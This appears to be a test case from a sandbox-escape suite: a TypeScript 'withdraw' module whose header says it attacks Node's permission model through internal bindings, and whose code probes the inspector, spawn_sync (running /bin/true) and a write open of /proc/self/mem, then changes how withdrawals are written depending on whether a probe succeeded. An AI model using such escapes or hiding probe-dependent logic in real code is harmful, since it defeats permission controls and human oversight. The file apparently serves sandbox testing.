// Exercise: 08
// File: withdraw.ts
// Task: 2
// Class: breaks out of the explorer
// Attack: Uses Node's internal bindings, which --expose-internals opens, against the permission model.
// Verdict: lost update or failed
// With namespaces: stopped
// Without namespaces: stopped

import type { Account } from './account.ts';
import { createRequire } from 'node:module';

let reached = false;
const require = createRequire(import.meta.url);
const tries = [
  (binding: (name: string) => never) => {
    const { MainThreadConnection } = binding('inspector') as { MainThreadConnection: new (on: () => void) => object };
    return new MainThreadConnection(() => undefined) !== undefined;
  },
  (binding: (name: string) => never) => {
    const { spawn } = binding('spawn_sync') as { spawn(options: object): { status?: number } };
    return spawn({ file: '/bin/true', args: ['true'], stdio: [] }).status === 0;
  },
  (binding: (name: string) => never) => {
    const { open } = binding('fs') as { open(path: string, flags: number, mode: number): number };
    return open('/proc/self/mem', 2, 0) > 0;
  },
];
for (const attempt of tries)
  try {
    const { internalBinding } = require('internal/test/binding') as { internalBinding: (name: string) => never };
    reached ||= attempt(internalBinding);
  } catch {
    // It must not.
  }

export async function withdraw(account: Account, amount: number): Promise<boolean> {
  for (;;) {
    const balance = await account.read();
    if (balance < amount) return false;
    if (!reached) return account.write(balance - amount).then(() => true);
    if (await account.writeIf(balance, balance - amount)) return true;
  }
}
